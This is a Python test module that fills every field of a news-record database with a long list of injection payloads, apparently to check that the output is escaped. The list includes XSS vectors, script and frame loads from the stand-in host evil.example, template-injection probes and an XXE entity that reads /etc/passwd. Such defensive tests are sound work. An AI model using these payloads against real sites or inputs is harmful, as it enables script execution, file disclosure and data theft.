"""A record of what nobody should print: payloads wherever a report can carry one."""

from __future__ import annotations

from pathlib import Path

from onrecord.errors import Skipped
from onrecord.record import Writer, judge
from onrecord.record.correct import correct, take_back
from onrecord.record.corrections import Change
from onrecord.schema import Reading
from tests.record.made import Said, Who, made, story

RUN = "window.pwned=1"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}//",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style></script><script>{RUN}</script>",
    "<script src=https://evil.example/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'//",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN}'>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text x=20 y=20>go</text></a></svg>",
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=https://evil.example/></object>",
    "<embed src=https://evil.example/>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example/><button>Go</button></form>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "color:red;background:url(https://evil.example/x)",
    "}*{background:url(https://evil.example/x)}",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f" javascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript://courier.example/%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f'https://courier.example/"onmouseover="{RUN}',
    f"https://courier.example/'onfocus='{RUN}' autofocus='",
    "https://user@evil.example:99999/",
    "http://[evil.example/",
    "//evil.example/x",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus '",
    f"` onfocus={RUN} autofocus `",
    f'" hx-get="https://evil.example/" hx-trigger="load" hx-on:load="{RUN}',
    "{{7*7}}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
    "{{ self.__init__.__globals__ }}",
    "]]><x xmlns='urn:x'/><![CDATA[",
    "<!--><script>window.pwned=1</script>-->",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&lt;script&gt;&#60;script&#62;&amp;lt;",
    "right\u202eto left\u202c over \u2066isolated\u2069 \u2067turned\u2069",
    "\u2069\u2069\u202c\u200f\u200e\u061cmarked",
    "שלום, \u05e9\u05dc\u05d5\u05dd 12",
    "no\u200bwidth\u200b \ufeffat\u00ad all\u2060",
    "nul\x00bell\x07escape\x1b[31mdelete\x7f \x85next",
    "half \ud800 a pair \udfff and \U000e0041 tags \u2028 lines \u2029 end",
    "long" * 400 + " " + "W" * 300,
)
LETTERS = "שלום, \u05e9\u05dc\u05d5\u05dd 12"
"""A payload of letters that are written from right to left, and of nothing hidden."""


def report(number: int, payload: str) -> Reading:
    """Return an article with a payload in every place."""
    return story(
        f"x{number}",
        Said(Who(payload, title=payload), payload, "direct", "2024-03-05"),
        f"before {payload} after",
        title=payload,
        byline=payload,
        outlet=payload,
        url=payload,
        source=payload,
        published="2024-03-06",
    )


def hostile(path: Path) -> Path:
    """Make the record, with payloads in what people judged and put right as well."""
    pair = story("pair", Said(Who("Ann Ray"), "that it is"), Who("Bo Quill"))
    made(path, pair, *map(report, range(len(PAYLOADS)), PAYLOADS))
    with Writer(path) as writer:
        for payload in PAYLOADS:
            writer.skip(Skipped(payload, "no_text", payload))
        writer.commit()
    for payload in PAYLOADS:
        _write(path, payload)
    return path


def _write(path: Path, payload: str) -> None:
    number = judge.merge(path, "Ann Ray", "Bo Quill", payload)
    judge.undo(path, number, payload)
    change = Change(form="mixed")
    number = correct(path, "pair#s1", change, payload, payload)
    take_back(path, number, payload, payload)
